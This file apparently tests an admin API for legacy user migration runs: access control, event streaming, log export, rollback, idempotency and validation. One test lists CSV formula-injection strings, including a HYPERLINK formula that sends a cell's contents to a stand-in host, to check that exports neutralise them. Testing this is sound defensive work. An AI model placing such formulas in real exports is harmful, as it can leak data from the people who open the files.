import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { legacyReplica, newLegacyUser, type LegacyReplica } from '../testing/legacy-users.fixture.js';
import { startHttpPlatform, type HttpPlatform } from '../testing/http-platform.fixture.js';
import type { FastifyInstance } from 'fastify';

let platform: HttpPlatform;
let server: FastifyInstance;
let legacy: LegacyReplica;
let token: string;

beforeAll(async () => {
  platform = await startHttpPlatform();
  legacy = legacyReplica(platform.plane);
  server = await platform.replica({ legacyMigrations: legacy.service });
  token = await platform.newOperator();
});
afterAll(() => platform.stop());

const url = '/api/admin/legacy-migrations';

async function send(method: 'GET' | 'POST', path: string, payload?: object, idempotencyKey?: string) {
  const headers = { authorization: `Bearer ${token}`, ...(idempotencyKey === undefined ? {} : { 'idempotency-key': idempotencyKey }) };
  const answer = await server.inject({ method, url: `${url}${path}`, headers, ...(payload === undefined ? {} : { payload }) });
  return { status: answer.statusCode, text: answer.body, headers: answer.headers, json: () => JSON.parse(answer.body) };
}

describe('migration runs over HTTP', () => {
  it('are for operators', async () => {
    const user = await platform.newUser();
    const answer = await server.inject({ method: 'POST', url, headers: { authorization: `Bearer ${user.token}` }, payload: { mode: 'plan' } });
    expect([answer.statusCode, (answer.json()).error.code]).toEqual([403, 'FORBIDDEN']);
  });

  it('begin, are followed to their end, logged, exported, and taken back', async () => {
    const users = [await newLegacyUser(platform.plane), await newLegacyUser(platform.plane, { roles: null })];
    const user_ids = users.map(({ userId }) => userId);
    const begun = await send('POST', '', { mode: 'run', user_ids }, 'begin-1');
    const { id } = begun.json();
    expect([begun.status, begun.json()]).toMatchObject([202, { mode: 'run', state: 'running', total: 2, done: 0, cipher: 'main', outcomes: {} }]);
    const following = send('GET', `/${id}/events`);
    await legacy.work(id);
    const { text } = await following;
    expect(text.match(/event: (run|end)/gu)?.at(-1)).toBe('event: end');
    expect(text).toContain('"state":"done"');
    expect((await send('GET', `/${id}`)).json()).toMatchObject({ state: 'done', done: 2, outcomes: { migrated: 1, failed: 1 }, findings: { MONGODB_USER_MISSING: 1 } });
    expect((await send('GET', `/${id}/log?outcome=failed`)).json()).toMatchObject({ total: 1, items: [{ user_id: users[1]!.userId, findings: [{ code: 'MONGODB_USER_MISSING' }] }] });
    expect((await send('GET', `/${id}/log?finding=MONGODB_USER_MISSING`)).json().total).toBe(1);
    const lines = (await send('GET', `/${id}/log/export`)).text.trim().split('\n').map((line) => JSON.parse(line) as { user_id: string });
    expect(lines.map(({ user_id }) => user_id).sort()).toEqual([...user_ids].sort());
    const csv = await send('GET', `/${id}/log/export?format=csv&outcome=migrated`);
    expect([csv.headers['content-type'], csv.text.split('\r\n').slice(0, 2).map((line) => line.split(',').slice(0, 2))]).toEqual(['text/csv; charset=utf-8', [['user_id', 'outcome'], [users[0]!.userId, 'migrated']]]);
    expect((await send('GET', '')).json()).toMatchObject({ total: 1, items: [{ id }] });
    const rollback = (await send('POST', `/${id}/rollback`, {}, 'rollback-1')).json();
    await legacy.work(rollback.id);
    expect((await send('GET', `/${rollback.id}`)).json()).toMatchObject({ mode: 'rollback', of_run_id: id, state: 'done', outcomes: { rolled_back: 1 } });
    for (const { password } of users) expect(lines.map((line) => JSON.stringify(line)).join('') + platform.logLines.join('')).not.toContain(password);
  });

  it('are exported so that a spreadsheet takes no user\'s id for a formula', async () => {
    const ids = ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2', '@SUM(1)', ' =1', '\t=1', '\uff1d1', 'a,"b"', 'harmless'];
    const { id } = (await send('POST', '', { mode: 'plan', user_ids: ids }, 'formulas')).json();
    await legacy.work(id);
    const csv = (await send('GET', `/${id}/log/export?format=csv`)).text;
    const cells = csv.split('\r\n').slice(1, -1).map((line) => /^("(?:[^"]|"")*"|[^,]*),/u.exec(line)![1]!.replace(/^"|"$/gu, '').replaceAll('""', '"'));
    expect(cells.sort()).toEqual(ids.map((text) => (['a,"b"', 'harmless'].includes(text) ? text : `'${text}`)).sort());
  });

  it('begin once for a repeated request, and one at a time', async () => {
    const user = await newLegacyUser(platform.plane);
    const first = await send('POST', '', { mode: 'run', user_ids: [user.userId] }, 'same');
    expect((await send('POST', '', { mode: 'run', user_ids: [user.userId] }, 'same')).json().id).toBe(first.json().id);
    expect((await send('POST', '', { mode: 'run' }, 'other')).json().error).toMatchObject({ code: 'LEGACY_RUN_IN_PROGRESS', details: { run_id: first.json().id } });
    expect((await send('POST', '', { mode: 'plan', user_ids: [user.userId] }, 'plan')).status).toBe(202);
    const paused = await send('POST', `/${first.json().id}/pause`, {}, 'pause');
    expect(paused.json()).toMatchObject({ state: 'paused', pause_reason: 'operator' });
    await legacy.work(first.json().id);
    expect((await send('GET', `/${first.json().id}`)).json()).toMatchObject({ state: 'paused', done: 0 });
    expect((await send('POST', `/${first.json().id}/resume`, {}, 'resume')).json()).toMatchObject({ state: 'running', pause_reason: null });
    await legacy.work(first.json().id);
    const atOnce = await Promise.all(Array.from({ length: 4 }, (_, n) => send('POST', '', { mode: 'run', user_ids: [user.userId] }, `at-once-${n}`)));
    expect(atOnce.map(({ status }) => status).sort()).toEqual([202, 409, 409, 409]);
    await legacy.work(atOnce.find(({ status }) => status === 202)!.json().id);
    expect((await send('POST', `/${first.json().id}/pause`, {}, 'late')).json().error).toMatchObject({ code: 'LEGACY_RUN_NOT_RUNNING', details: { state: 'done' } });
  });

  it.each([
    ['an unknown cipher', { mode: 'plan', cipher: 'nope' }, 400, 'LEGACY_CIPHER_UNKNOWN'],
    ['a key', { mode: 'plan', key: 'secret' }, 400, 'VALIDATION_FAILED'],
    ['no mode', {}, 400, 'VALIDATION_FAILED'],
    ['repair without verifying', { mode: 'run', repair: true }, 400, 'VALIDATION_FAILED'],
    ['a run that is not there', { mode: 'verify', of_run_id: 'nope' }, 404, 'LEGACY_RUN_NOT_FOUND'],
    ['too many users', { mode: 'plan', user_ids: Array.from({ length: 1001 }, () => 'u') }, 400, 'VALIDATION_FAILED'],
  ])('are refused with %s', async (what, payload, status, code) => {
    const answer = await send('POST', '', payload);
    expect([answer.status, answer.json().error.code]).toEqual([status, code]);
  });

  it('that are not there are not found, whatever is asked', async () => {
    for (const path of ['/nope', '/nope/log', '/nope/log/export', '/nope/events']) expect((await send('GET', path)).json().error.code).toBe('LEGACY_RUN_NOT_FOUND');
  });
});
